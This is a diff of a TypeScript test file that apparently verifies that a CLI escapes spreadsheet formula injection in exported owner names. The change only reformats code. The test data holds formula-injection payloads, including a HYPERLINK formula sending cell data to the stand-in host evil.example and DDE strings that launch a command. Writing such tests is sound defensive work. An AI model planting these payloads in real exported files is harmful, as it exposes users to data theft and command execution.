@@ -13,7 +13,11 @@ import { type ProcessRun, STATE_HOME, spawnCdrapi } from "./helpers/cli.js";
 
 /** Each owner name, and the cell a spreadsheet must read. */
 const OWNERS: Array<[string, string, string]> = [
-  ["=", '=HYPERLINK("http://evil.example/?d="&A1,"click")', `'=HYPERLINK("http://evil.example/?d="&A1,"click")`],
+  [
+    "=",
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    `'=HYPERLINK("http://evil.example/?d="&A1,"click")`,
+  ],
   ["+", "+84 28 3823 4567", "'+84 28 3823 4567"],
   ["-", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
   ["@", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
@@ -53,12 +57,11 @@ test("the list is written", () => {
   expect(rows).toHaveLength(OWNERS.length + 1);
 });
 
-test.each(OWNERS.map(([first, , cell], i) => [first, cell, i] as const))(
-  "an owner name beginning with %s",
-  (_first, cell, i) => {
-    expect(rows[i]!.ownerName).toBe(cell);
-  },
-);
+test.each(
+  OWNERS.map(([first, , cell], i) => [first, cell, i] as const),
+)("an owner name beginning with %s", (_first, cell, i) => {
+  expect(rows[i]!.ownerName).toBe(cell);
+});
 
 test("a negative number stays a number", () => {
   expect(rows.map((row) => row.balance)).toEqual([...OWNERS.map((_, i) => String(-5 - i)), ""]);
